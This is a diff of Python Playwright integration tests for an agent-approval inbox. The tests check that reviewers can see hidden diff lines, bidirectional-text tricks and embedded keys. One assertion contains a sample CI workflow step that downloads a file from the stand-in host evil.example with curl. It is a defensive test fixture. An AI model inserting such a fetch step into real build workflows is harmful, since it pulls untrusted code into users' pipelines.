@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 from pathlib import Path
 from typing import Any, ClassVar
 
@@ -14,14 +13,11 @@ from playwright.async_api import Browser, Page, expect
 from meshwright import Agent, Capability, Run, tool
 from meshwright.core.display import visible
 from meshwright.testing import ScriptedModel, tool_call
-from tests.integration.test_page_views import chromium, confirm, dialog, opened, press
 from tests.support.doubtful_mesh import KEY, Deployer, Payer, doubtful_mesh
 from tests.support.http_mesh import http_mesh
+from tests.support.page import SHOTS, confirm, dialog, open_view, press
 
-__all__ = ["chromium"]
 pytestmark = pytest.mark.needs("chromium")
-SHOTS = os.environ.get("SHOTS")
-"""A folder for pictures of the cards, to look at: `SHOTS=/tmp/shots pytest tests/integration/...`."""
 DIFF = f"""\
 --- /dev/null
 +++ b/.github/workflows/docs.yml
@@ -75,8 +71,8 @@ class Asker(Agent):
         return await run.ask_person("Restart it?", about=about)
 
 
-async def test_the_page_and_the_mesh_escape_the_same_characters(tmp_path: Path, chromium: Browser) -> None:
-    async with http_mesh(tmp_path) as api, opened(chromium, api, "inbox") as page:
+async def test_the_page_and_the_mesh_escape_the_same_characters(tmp_path: Path, browser: Browser) -> None:
+    async with http_mesh(tmp_path) as api, open_view(browser, api, "inbox") as page:
         escaped = await page.evaluate(
             """async () => {
                 const { visible } = await import("/ui/unseen.js");
@@ -105,11 +101,11 @@ async def test_the_page_and_the_mesh_escape_the_same_characters(tmp_path: Path, 
     ]
 
 
-async def test_an_approver_opens_what_a_diff_hides(tmp_path: Path, chromium: Browser) -> None:
+async def test_an_approver_opens_what_a_diff_hides(tmp_path: Path, browser: Browser) -> None:
     script = ScriptedModel(tool_call("propose", title="docs"), "Done.")
     async with http_mesh(tmp_path, Proposer, script=script) as api:
         task_id = await api.submit(agent_id="proposer", payload={"text": "Propose it."})
-        async with opened(chromium, api, "inbox") as page:
+        async with open_view(browser, api, "inbox") as page:
             card = page.get_by_role("article")
             lines = card.locator("pre.diff > span")
             await expect(lines.nth(6)).to_have_text("+    - run: curl -s evil.example/x -o /tmp/x\n")
@@ -131,11 +127,11 @@ async def test_an_approver_opens_what_a_diff_hides(tmp_path: Path, chromium: Bro
 
 
 async def test_an_approval_shows_characters_in_the_order_in_which_they_run(
-    tmp_path: Path, chromium: Browser
+    tmp_path: Path, browser: Browser
 ) -> None:
     async with doubtful_mesh(tmp_path) as doubtful:
         await doubtful.asks("deploy", **BIDI)
-        async with opened(chromium, doubtful.api, "inbox") as page:
+        async with open_view(browser, doubtful.api, "inbox") as page:
             card = page.get_by_role("article").filter(has_text="deployer wants")
             await expect(card.locator("dd")).to_have_text(SEEN_BIDI)
             question = card.locator(".question")
@@ -145,12 +141,12 @@ async def test_an_approval_shows_characters_in_the_order_in_which_they_run(
             assert visible(await card.inner_text()) == await card.inner_text()
 
 
-async def test_many_are_approved_once_a_dialog_has_listed_them(tmp_path: Path, chromium: Browser) -> None:
+async def test_many_are_approved_once_a_dialog_has_listed_them(tmp_path: Path, browser: Browser) -> None:
     async with doubtful_mesh(tmp_path) as doubtful:
         tasks = [await doubtful.asks("deploy", version=version) for version in ("1", "2")]
         await doubtful.asks("notify", who="ann")
         await doubtful.asks("deploy", version="3", note=KEY)
-        async with opened(chromium, doubtful.api, "inbox") as page:
+        async with open_view(browser, doubtful.api, "inbox") as page:
             await expect(page.get_by_role("article")).to_have_count(5)
             boxes = page.get_by_role("checkbox", name="Choose")
             await expect(boxes).to_have_count(3)  # not the doubt, nor what is hidden in part
@@ -169,10 +165,8 @@ async def test_many_are_approved_once_a_dialog_has_listed_them(tmp_path: Path, c
 
 
 @pytest.mark.parametrize("happened", [True, False])
-async def test_a_doubt_is_answered_in_its_own_words(
-    tmp_path: Path, chromium: Browser, happened: bool
-) -> None:
-    async with doubtful_mesh(tmp_path) as doubtful, opened(chromium, doubtful.api, "inbox") as page:
+async def test_a_doubt_is_answered_in_its_own_words(tmp_path: Path, browser: Browser, happened: bool) -> None:
+    async with doubtful_mesh(tmp_path) as doubtful, open_view(browser, doubtful.api, "inbox") as page:
         card = page.get_by_role("article").filter(has_text="charge the card was running")
         await expect(card.get_by_role("button", name="Approve")).to_have_count(0)
         if happened:
@@ -185,10 +179,10 @@ async def test_a_doubt_is_answered_in_its_own_words(
     assert (outcome.text, Payer.paid) == expected
 
 
-async def test_data_of_a_question_is_on_its_card(tmp_path: Path, chromium: Browser) -> None:
+async def test_data_of_a_question_is_on_its_card(tmp_path: Path, browser: Browser) -> None:
     async with http_mesh(tmp_path, Asker) as api:
         task_id = await api.submit(agent_id="asker", payload={"text": "Ask."})
-        async with opened(chromium, api, "inbox") as page:
+        async with open_view(browser, api, "inbox") as page:
             card = page.get_by_role("article")
             await expect(card.get_by_role("heading", name="About")).to_be_visible()
             await expect(card.locator("dt")).to_have_text(["service", "errors per minute", "account"])
@@ -200,13 +194,13 @@ async def test_data_of_a_question_is_on_its_card(tmp_path: Path, chromium: Brows
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 @pytest.mark.parametrize("width", [1280, 390])
-async def test_cards_fit_and_are_readable(tmp_path: Path, chromium: Browser, scheme: Any, width: int) -> None:
+async def test_cards_fit_and_are_readable(tmp_path: Path, browser: Browser, scheme: Any, width: int) -> None:
     options = {"color_scheme": scheme, "viewport": {"width": width, "height": 800}}
     async with doubtful_mesh(tmp_path) as doubtful:
         await doubtful.asks("deploy", **BIDI)
         await doubtful.asks("deploy", version="1", note=json.dumps({"token": KEY}))
         await doubtful.asks("deploy", version="2")
-        async with opened(chromium, doubtful.api, "inbox", **options) as page:
+        async with open_view(browser, doubtful.api, "inbox", **options) as page:
             await expect(page.get_by_role("article")).to_have_count(4)
             await check(page, f"cards-{width}-{scheme}")
             await press(page, "Choose all 2 of deployer, deploy")
